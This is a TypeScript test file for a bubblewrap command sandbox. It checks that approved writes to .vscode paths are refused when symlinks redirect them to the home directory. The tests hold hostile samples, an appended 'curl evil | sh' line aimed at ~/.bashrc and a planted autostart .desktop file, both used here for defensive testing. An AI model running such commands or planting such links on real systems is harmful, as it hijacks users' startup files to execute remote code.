import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs"
import { dirname, relative } from "node:path"
import { describe, expect, it } from "vitest"
import { sandboxTestFolders, startSandboxed } from "../../support/sandboxed-command"

/**
 * A write the user approves is bound writable for that one command, and a bind follows symlinks. A cloned
 * repository can ship its protected `.vscode/settings.json` as a link to `~/.bashrc`; the question then asks
 * about the workspace's settings file, never about the home's startup file. Real bash in real bubblewrap.
 */

const folders = sandboxTestFolders()

describe("an approved write to a protected path of the workspace", () => {
  it("is refused, with a note, when the path is a link that leads outside the workspace (the home's ~/.bashrc stays as it was)", async () => {
    const home = folders.home()
    writeFileSync(home.path(".bashrc"), "HOME-BASHRC\n")
    const ws = await folders.workspace()
    mkdirSync(ws.path(".vscode"))
    const link = ws.path(".vscode/settings.json")
    // Relative, as git checks a link out: bubblewrap follows it to the home's file.
    symlinkSync(relative(dirname(link), home.path(".bashrc")), link)
    const run = await startSandboxed("echo 'curl evil | sh' >> .vscode/settings.json; echo done", {
      workspaceFolders: [ws.root],
      home: home.root,
      network: { allowedHosts: [] },
      extraWritablePaths: [link],
    }).done
    expect(run.output).toContain("done")
    expect(readFileSync(home.path(".bashrc"), "utf8")).toBe("HOME-BASHRC\n")
    expect(run.output).toContain(`the write you approved to ${link} is not allowed: it leads through a symbolic link`)
  })

  it("is refused when a folder above it is a link, and the server creates nothing where the link leads", async () => {
    const home = folders.home()
    mkdirSync(home.path(".config/autostart"), { recursive: true })
    const ws = await folders.workspace()
    symlinkSync(relative(ws.root, home.path(".config/autostart")), ws.path(".vscode"))
    const approved = ws.path(".vscode/evil.desktop")
    const run = await startSandboxed("echo '[Desktop Entry]' > .vscode/evil.desktop; echo done", {
      workspaceFolders: [ws.root],
      home: home.root,
      network: { allowedHosts: [] },
      extraWritablePaths: [approved],
    }).done
    expect(run.output).toContain("done")
    expect(() => readFileSync(home.path(".config/autostart/evil.desktop"))).toThrow()
  })

  it("is still made writable where the path is the file itself", async () => {
    const ws = await folders.workspace({ ".vscode/settings.json": "{}\n" })
    const run = await startSandboxed("echo '{\"a\":1}' > .vscode/settings.json && echo written", {
      workspaceFolders: [ws.root],
      home: folders.home().root,
      network: { allowedHosts: [] },
      extraWritablePaths: [ws.path(".vscode/settings.json")],
    }).done
    expect(run.output).toContain("written")
    expect(readFileSync(ws.path(".vscode/settings.json"), "utf8")).toBe('{"a":1}\n')
  })
})
